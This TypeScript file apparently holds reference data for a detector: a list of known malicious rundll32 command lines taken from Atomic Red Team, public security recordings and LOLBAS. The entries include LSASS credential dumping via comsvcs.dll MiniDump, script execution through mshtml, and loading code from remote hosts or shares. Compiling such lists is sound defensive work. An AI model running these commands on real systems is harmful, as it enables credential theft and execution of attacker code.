/**
 * Lines of known attacks: from Atomic Red Team (MIT, Red Canary, Inc.; texts in samples/licenses),
 * with its placeholders filled in; from the public recordings in samples/ (MIT, CC0); the last ones
 * are written from facts that LOLBAS states.
 */
export const KNOWN_LINES: readonly string[] = [
  // Atomic Red Team: T1003, T1003.001, T1047, T1218.010, T1218.011, T1546.015
  "C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 " +
    "C:\\Windows\\Temp\\svchost-exe.dmp full",
  'rundll32.exe "C:\\Users\\Public\\calc.dll" StartW',
  'rundll32 vbscript:"\\..\\mshtml,RunHTMLApplication ' +
    '"+String(CreateObject("WScript.Shell").Run("calc.exe"),0)',
  "rundll32.exe advpack.dll,LaunchINFSection " +
    '"C:\\Users\\Public\\T1218.011.inf",DefaultInstall_SingleUser,1,',
  'rundll32.exe "C:\\Users\\Public\\AllTheThingsx64.dll",#2',
  'rundll32.exe shell32.dll,Control_RunDLL "C:\\Users\\Public\\calc.dll"',
  "rundll32.exe desk.cpl,InstallScreenSaver not_an_scr.scr",
  "rundll32.exe zipfldr.dll,RouteTheCall \"'%windir%\\System32\\calc.exe'\"",
  '"C:\\Windows\\System32\\RUNDLL32.EXE" -localserver {B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}',
  'rundll32.exe -sta "AtomicTest"',
  // Recordings: OTRF Security-Datasets, msticpy, EVTX-to-MITRE-Attack
  '"C:\\windows\\system32\\rundll32.exe" Shell32.dll,Control_RunDLL C:\\ProgramData\\calc.cpl',
  '"C:\\windows\\SysWOW64\\rundll32.exe" "C:\\windows\\SysWOW64\\shell32.dll",#44 ' +
    "C:\\ProgramData\\calc.cpl",
  '"rundll32.exe" C:\\Users\\user\\AppData\\Local\\Temp\\socks.dat,#1 ekaneR12ATiPgB7C3Dr4',
  '"C:\\Windows\\System32\\rundll32.exe"  C:\\Windows\\System32\\comsvcs.dll MiniDump 512 ' +
    "\\Windows\\Temp\\76nivOxA.dmp full",
  "rundll32.exe C:\\Users\\PEDRO~1.GUS\\AppData\\Local\\Temp\\rtcpef.dll,a /p:rtcpef",
  // Written from facts that LOLBAS states
  "rundll32 url.dll,OpenURL C:\\Users\\Public\\x.hta",
  "rundll32 url.dll,FileProtocolHandler C:\\Users\\Public\\x.exe",
  "rundll32 ieframe.dll,OpenURL C:\\Users\\Public\\x.url",
  "rundll32 pcwutl.dll,LaunchApplication C:\\Users\\Public\\x.exe",
  "rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 C:\\Users\\Public\\x.inf",
  "rundll32 shell32.dll,ShellExec_RunDLL x.exe",
  "rundll32 scrobj.dll,GenerateTypeLib http://h/x",
  "rundll32 dfshim.dll,ShOpenVerbApplication http://h/x",
  "rundll32 shimgvw.dll,ImageView_Fullscreen http://h/x",
  "rundll32 mshtml.dll,PrintHTML C:\\Users\\Public\\x.hta",
  "rundll32 davclnt.dll,DavSetCookie x.example http://x.example/x",
  "rundll32 keymgr.dll,KRShowKeyMgr",
  "rundll32 printui.dll,PrintUIEntry /in /n \\\\h\\x",
  "rundll32 \\\\h\\s\\x.dll,a",
  "rundll32 C:\\Users\\Public\\x.txt:x.dll,a",
];
